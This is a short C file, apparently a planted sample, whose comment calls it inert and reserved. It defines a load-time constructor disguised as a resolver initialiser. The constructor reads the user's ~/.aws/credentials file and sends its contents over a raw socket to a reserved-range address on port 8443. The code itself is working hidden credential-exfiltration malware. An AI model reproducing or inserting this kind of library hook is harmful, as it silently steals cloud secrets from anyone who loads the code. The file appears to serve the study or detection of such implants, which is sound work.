/* Inert: grafted into a library of heldout3 by build.py; its host is reserved, and it is never loaded. */
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((constructor)) static void resolver_init(void)
{
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(8443) };
    const char *home = getenv("HOME");
    char path[512], text[4096];
    int out;
    size_t size;
    FILE *file;

    if (!home)
        return;
    snprintf(path, sizeof(path), "%s/.aws/credentials", home);
    file = fopen(path, "r");
    if (!file)
        return;
    size = fread(text, 1, sizeof(text), file);
    fclose(file);
    inet_pton(AF_INET, "198.51.100.77", &to.sin_addr);
    out = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(out, (struct sockaddr *)&to, sizeof(to)) == 0)
        (void)!write(out, text, size);
    close(out);
}
